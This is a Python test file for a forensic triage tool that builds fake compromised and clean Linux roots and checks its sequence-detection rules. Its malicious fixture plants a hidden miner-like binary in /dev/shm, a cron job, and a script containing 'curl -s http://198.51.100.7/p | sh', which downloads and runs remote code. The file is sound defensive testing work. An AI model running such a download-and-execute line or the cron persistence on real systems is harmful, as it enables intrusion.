"""Sequence rules through a whole run (fake root → collect → analyze): a program dropped in a writable
place and the shell command or cron job that ran it are joined across streams (specs/rules/sequences.yaml);
an installer script saved in /tmp and run once by an admin is not such a drop."""

from __future__ import annotations

import json
import shutil
import tarfile
from pathlib import Path

from conftest import run_triagent, summary_of


def _root(base: Path, malicious: bool) -> Path:
    root = base / ("bad" if malicious else "good")
    for folder in ("etc", "root", "tmp", "var/tmp", "dev/shm", "etc/cron.d", "home/ops"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n")
    (root / "etc/hostname").write_text("seq-host\n")
    true = shutil.which("true")
    assert true
    if malicious:
        shutil.copy(true, root / "dev/shm/.k")  # an ELF with a hidden name
        (root / "root/.bash_history").write_text("#1764900000\ncd /dev/shm\n#1764900010\n./.k -o pool:3333\n")
        (root / "var/tmp/upd.sh").write_text("#!/bin/sh\ncurl -s http://198.51.100.7/p | sh\n")
        (root / "etc/cron.d/upd").write_text("*/5 * * * * root /var/tmp/upd.sh >/dev/null 2>&1\n")
    else:
        (root / "tmp/get-docker.sh").write_text("#!/bin/sh\necho installing docker\n")
        (root / "home/ops/.bash_history").write_text("curl -fsSL https://get.docker.com -o /tmp/get-docker.sh\n"
                                                      "sudo sh /tmp/get-docker.sh\n/usr/bin/docker ps\n")
        (root / "etc/cron.d/backup").write_text("0 3 * * * root /usr/local/bin/backup.sh\n")
    return root


def _findings(tmp_path: Path, root: Path) -> dict[str, list[dict]]:
    out = tmp_path / f"out-{root.name}"
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--output", str(out), "--profile", "triage"]))[
        "bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(out / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        lines = tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()
    found: dict[str, list[dict]] = {}
    for line in lines:
        finding = json.loads(line)
        found.setdefault(str(finding.get("rule")), []).append(finding)
    return found


def test_dropped_program_joined_with_what_ran_it(tmp_path):
    found = _findings(tmp_path, _root(tmp_path, malicious=True))
    shell = found.get("TRI-SEQ-001", [])
    assert [f["key"] for f in shell] == ["/dev/shm/.k"], found.keys()
    assert "./.k -o pool:3333" in shell[0]["summary"] and len(shell[0]["evidence"]) == 2
    assert [f["key"] for f in found.get("TRI-SEQ-002", [])] == ["/var/tmp/upd.sh"]


def test_installer_script_run_once_is_not_a_drop(tmp_path):
    found = _findings(tmp_path, _root(tmp_path, malicious=False))
    assert "TRI-SEQ-001" not in found and "TRI-SEQ-002" not in found


def _evaluate(rule_id: str, records: dict[str, list[dict]]) -> list[dict]:
    from agent.analysis import rules as engine

    rule = next(r for r in engine.load_rules() if r.id == rule_id)

    def rows(source: str):
        return (("source", f"artifacts/{source}.jsonl", n, r) for n, r in enumerate(records.get(source, []), 1))

    return list(engine.evaluate([rule], rows, 1_800_000_000.0))


def _added(user: str, origin: str) -> dict:
    return {"kind": "event", "event": "user_added", "user": user, "origin": origin, "uid": 1050,
            "time_utc": "2026-12-02T08:23:52Z", "host": "db-1"}


def _grant(user: str) -> dict:
    return {"user": user, "active": True, "nopasswd": True, "commands": ["ALL"], "file": "/etc/sudoers.d/zz",
            "line": 1}


def test_account_made_by_hand_then_given_passwordless_sudo():
    hit = _evaluate("TRI-SEQ-003", {"auth": [_added("svc-backup", "interactive")],
                                    "sudo_rules": [_grant("svc-backup")]})
    assert [f["key"] for f in hit] == ["svc-backup"] and hit[0]["severity"] == "high"
    # look-alikes: cloud-init's default user with its NOPASSWD file; an account made by hand without the grant
    assert not _evaluate("TRI-SEQ-003", {"auth": [_added("ubuntu", "cloud-init"), _added("dana", "interactive")],
                                         "sudo_rules": [_grant("ubuntu")]})


def _login(ip: str, public: bool, user: str = "admin") -> dict:
    return {"kind": "event", "event": "ssh_accepted", "source_ip": ip, "source_is_public": public, "user": user,
            "host": "db-1", "time_utc": "2026-12-03T09:41:30Z", "method": "publickey"}


def test_rare_public_login_on_a_host_reached_from_private_addresses():
    private = [_login(f"10.0.0.{n}", False) for n in range(12)]
    hit = _evaluate("TRI-SEQ-004", {"auth": private + [_login("45.139.233.9", True, "svc-backup")]})
    assert len(hit) == 1 and "45.139.233.9" in hit[0]["summary"] and hit[0]["memory_question"]
    # a bastion or a public web server: public logins are the routine, not the exception
    assert not _evaluate("TRI-SEQ-004", {"auth": private + [_login(f"198.51.100.{n}", True) for n in range(3)]})
    # too little history to call one login an exception
    assert not _evaluate("TRI-SEQ-004", {"auth": private[:5] + [_login("45.139.233.9", True)]})
